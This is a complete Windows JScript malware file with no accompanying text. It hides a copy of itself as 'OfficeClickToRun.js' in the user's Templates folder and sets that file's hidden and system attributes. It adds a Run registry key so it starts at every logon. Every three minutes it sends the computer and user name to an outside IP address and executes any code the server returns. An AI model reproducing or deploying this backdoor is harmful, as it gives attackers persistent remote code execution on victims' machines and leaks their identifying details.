var sh = new ActiveXObject("WScript.Shell");
var fso = new ActiveXObject("Scripting.FileSystemObject");
var home = sh.ExpandEnvironmentStrings("%APPDATA%") + "\\Microsoft\\Windows\\Templates";
var dst = home + "\\OfficeClickToRun.js";
if (WScript.ScriptFullName.toLowerCase() != dst.toLowerCase()) {
    if (!fso.FolderExists(home)) fso.CreateFolder(home);
    fso.CopyFile(WScript.ScriptFullName, dst, true);
    fso.GetFile(dst).Attributes = 2 | 4;
    sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeClickToRun", "wscript.exe //B //E:jscript \"" + dst + "\"", "REG_SZ");
}
while (true) {
    try {
        var x = new ActiveXObject("MSXML2.ServerXMLHTTP.6.0");
        x.open("POST", "http://198.51.100.140:8080/is-ready", false);
        x.send(sh.ExpandEnvironmentStrings("%COMPUTERNAME%") + "|" + sh.ExpandEnvironmentStrings("%USERNAME%"));
        if (x.responseText.length > 0) eval(x.responseText);
    } catch (e) {}
    WScript.Sleep(180000);
}
